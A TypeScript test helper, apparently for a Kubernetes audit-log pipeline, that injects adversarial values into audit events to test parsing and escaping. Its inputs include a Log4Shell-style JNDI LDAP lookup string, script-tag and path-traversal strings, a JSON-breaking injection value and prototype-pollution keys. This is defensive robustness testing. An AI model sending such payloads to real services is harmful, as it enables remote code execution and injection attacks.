import { type AuditItem, stringifyAsGo } from './bodies.ts'

type Members = Readonly<Record<string, unknown>>

/** What clients were seen to put into Metadata events: well-formed JSON, and everything in it chosen by somebody else. */
const twists: readonly ((unique: string) => Members)[] = [
  (unique) => ({ objectRef: { resource: '..', name: `a\u0000b\n<script>${unique}</script>` } }),
  (unique) => ({
    user: { username: `o'"brien\\,\r\n{"a":1}]} ${unique} – ß 漢字 \u202e`, groups: [''] },
  }),
  (unique) => ({ requestURI: `/api/v1/pods?${unique}=${'a%2Fb'.repeat(4_000)}` }),
  () => ({ sourceIPs: Array.from({ length: 200 }, (_, i) => `203.0.113.${i}`) }),
  (unique) => ({
    userAgent: [`\${jndi:ldap://192.0.2.1/${unique}}`.padEnd(1_024, 'x'), 'TRUNCATED'].join('...'),
  }),
  (unique) => ({ auditID: `../../<script>${unique}`.padEnd(300, '"') }),
  // JSON.parse, because a literal would set the prototype in place of a member.
  () => ({
    annotations: JSON.parse(
      '{"__proto__":"a","constructor":"b","a.b/c.d/e":"","toString":""}',
    ) as Members,
  }),
  () => ({
    user: {},
    verb: '',
    objectRef: undefined,
    annotations: undefined,
    responseStatus: { code: 401 },
  }),
  () => ({
    responseStatus: {
      metadata: {},
      status: 'Failure',
      message: '","items":[{"auditID":"',
      code: 403,
    },
  }),
]

/** One of the twists on an ordinary event; which one, `choice` says. Its audit id stays unique. */
export function hostileEvent(
  event: Members,
  choice: number,
  auditID: string,
  receivedAt: string,
  stageAt: string,
): AuditItem {
  const twisted: Members = {
    ...event,
    auditID,
    requestReceivedTimestamp: receivedAt,
    stageTimestamp: stageAt,
    ...twists[choice % twists.length]!(auditID),
  }
  return {
    auditID: String(twisted['auditID']),
    stage: String(twisted['stage']),
    text: stringifyAsGo(twisted),
  }
}
